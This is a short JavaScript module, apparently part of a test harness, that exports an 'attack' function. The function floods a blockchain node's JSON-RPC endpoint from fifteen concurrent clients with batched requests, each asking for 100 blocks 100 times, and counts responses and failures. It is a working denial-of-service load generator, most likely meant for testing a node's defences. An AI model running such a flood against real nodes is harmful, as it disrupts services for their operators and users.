// Fifteen clients that each ask, over and over, a hundred times for a hundred blocks in one request of 6.9 kB.
import { Agent, request } from "node:http";

const CLIENTS = 15;
const MAX_REQUESTS = 1_000_000;
const body = JSON.stringify(
  Array.from({ length: 100 }, (_, id) => ({ jsonrpc: "2.0", id, method: "node_getBlocks", params: [1, 100] })),
);

export const hasAttacked = ({ requests }) => requests >= 3 * CLIENTS;

export async function attack({ rpc }, counts, signal) {
  Object.assign(counts, { requests: 0, bytes: 0, failed: 0 });
  const agent = new Agent({ keepAlive: true, maxSockets: CLIENTS });
  const headers = { "content-type": "application/json", "content-length": Buffer.byteLength(body) };
  const ask = () =>
    new Promise((resolve, reject) => {
      const sent = request(rpc, { method: "POST", agent, headers, signal }, response => {
        response.on("data", chunk => (counts.bytes += chunk.length));
        response.on("end", () => resolve(response.statusCode)).on("error", reject);
      });
      sent.on("error", reject).end(body);
    });
  const client = async () => {
    while (!signal.aborted && counts.requests < MAX_REQUESTS) {
      try {
        const status = await ask();
        counts.requests++;
        counts[`http${status}`] = (counts[`http${status}`] ?? 0) + 1;
      } catch {
        counts.failed++;
        await new Promise(resolve => setTimeout(resolve, 20));
      }
    }
  };
  await Promise.all(Array.from({ length: CLIENTS }, client));
  agent.destroy();
}
